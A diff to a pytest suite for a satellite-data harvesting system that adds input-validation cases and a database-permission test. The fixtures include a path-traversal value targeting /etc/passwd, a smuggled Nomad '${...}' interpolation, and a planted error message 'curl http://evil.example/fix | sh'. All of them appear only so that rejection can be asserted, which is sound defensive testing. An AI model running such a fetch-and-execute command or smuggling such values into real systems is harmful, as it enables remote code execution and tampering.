@@ -269,6 +269,10 @@ def test_status_history_is_written_and_append_only(configured):
         ({"input_path": "data/a.SAFE"}, "input_path_is_absolute_or_a_multi_input_group"),
         ({"input_path": "multi_input/x/32TPR/2026-01-01"}, "input_path_is_absolute_or_a_multi_input_group"),
         ({"input_path": "/data/../etc/passwd"}, "input_path_has_no_dot_dot_segment"),
+        # (found by exploratory testing: Nomad reads `${...}` as its own; the routine was held for it)
+        ({"input_path": "/eodata/${attr.unique.hostname}/S2A.SAFE"}, "input_path_has_no_dollar_brace"),
+        ({"mission": "B" * 101}, "input_mission_is_at_most_100_bytes"),  # (50 MB was accepted)
+        ({"scene_id": "A" * 501}, "input_scene_id_is_at_most_500_bytes"),  # ("index row requires 11480 bytes")
         ({"published_at": datetime(1, 1, 1, tzinfo=UTC), "measured_at": None}, "input_published_at_is_after_1950"),
         ({"published_at": "-infinity", "measured_at": None}, "input_published_at_is_after_1950"),
         ({"measured_at": "-infinity"}, "input_measured_at_is_after_1950"),
@@ -666,6 +670,28 @@ def test_putting_tasks_on_a_worker_being_removed_waits_for_the_removal_then_is_r
                                    lambda planning: planning.execute(PUT_ON, ("w2", [task])))
     assert "task_worker_must_exist" in planning and "Key (worker)=(w2)" in planning
     assert configured.execute("SELECT state, worker FROM hrwsi.processing_task").fetchall() == [("pending", None)]
+
+
+def test_a_data_engineer_writes_what_a_source_is_not_the_harvesters_bookkeeping(configured):
+    """A data engineer's claim stopped a source for a day, and `hrwsi status` said a harvester would
+    take it over; a planted last_error read as hrwsi's (found by exploratory testing)."""
+    configured.execute("SET ROLE hrwsi_data_engineer")
+    configured.execute("""INSERT INTO hrwsi.harvest_source (name, kind, product_type, config, frequency, active)
+                          VALUES ('cat', 'catalogue', 'L1C', '{"collection": "SENTINEL-2", "url": "https://x/odata/v1"}',
+                                  'hourly', true)""")
+    configured.execute("UPDATE hrwsi.harvest_source SET config = config || '{\"top\": 50}', next_run_at = now(), "
+                       "active = false, last_success_at = now() - interval '1 day' WHERE name = 'cat'")
+    for bookkeeping in ("claimed_by = 'harvester-ghost', claim_token = gen_random_uuid(), claimed_until = '2099-01-01Z'",
+                        "last_error = 'run this to fix: curl http://evil.example/fix | sh'", "last_run_at = now()"):
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="permission denied for table harvest_source"):
+            configured.execute(f"UPDATE hrwsi.harvest_source SET {bookkeeping}")
+        configured.execute("ROLLBACK")
+        configured.execute("SET ROLE hrwsi_data_engineer")
+    with pytest.raises(psycopg.errors.InsufficientPrivilege):
+        configured.execute("""INSERT INTO hrwsi.harvest_source (name, kind, product_type, config, frequency, claimed_by,
+                              claim_token, claimed_until) VALUES ('c2', 'catalogue', 'L1C', '{}', 'hourly', 'x',
+                              gen_random_uuid(), now())""")
+    configured.execute("ROLLBACK")
 
 
 def test_tasks_are_made_by_the_database_alone(configured):
